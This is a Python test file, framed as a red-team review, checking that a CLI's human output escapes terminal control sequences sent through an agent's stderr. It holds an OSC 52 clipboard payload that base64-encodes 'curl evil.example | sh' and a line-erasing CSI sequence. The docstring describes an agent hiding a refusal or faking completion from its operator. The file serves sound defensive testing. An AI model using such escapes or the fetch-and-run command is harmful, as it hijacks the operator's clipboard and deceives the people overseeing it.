"""Red-team review: what an agent's own words do to the operator's terminal.

`silo run` (human output) prints the cell's stderr lines as they came. The agent controls
them completely, so it can send terminal control sequences: OSC 52 writes the operator's
clipboard, CSI sequences erase or rewrite earlier lines (hiding a refusal, faking a
"done"). The summary is printed through `json.dumps`, which escapes them; stderr is not.
"""

from __future__ import annotations

from types import SimpleNamespace

import pytest

from siloos.cli.run import _print_human

CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07"
ERASE = "\x1b[1A\x1b[2K"


def result(stderr: str, summary: dict) -> SimpleNamespace:
    hop = {"hop": 1, "agent": "refund-agent", "status": 200, "summary": summary}
    return SimpleNamespace(task_id="task_x", state="done", status=200, agent="refund-agent",
                           hops=[hop], redirect=None, stderr=stderr)


def test_summary_control_characters_are_escaped(capsys: pytest.CaptureFixture[str]) -> None:
    """Holds: the summary goes through json.dumps."""
    _print_human(result("", {"reason": CLIPBOARD + ERASE}))
    out, err = capsys.readouterr()
    assert "\x1b" not in out + err


def test_cell_stderr_cannot_drive_the_operators_terminal(
        capsys: pytest.CaptureFixture[str]) -> None:
    _print_human(result(f"warning {CLIPBOARD}\n{ERASE}all good\n", {}))
    out, err = capsys.readouterr()
    assert "\x1b" not in out + err and "\x07" not in out + err


def test_task_reason_is_printed_escaped(tmp_path, capsys) -> None:
    from siloos.cli.output import printable

    assert printable("ok\x1b[2K\x07\u202e") == "ok\\x1b[2K\\x07\\u202e"
    assert printable("tab\tand spaces") == "tab\tand spaces"
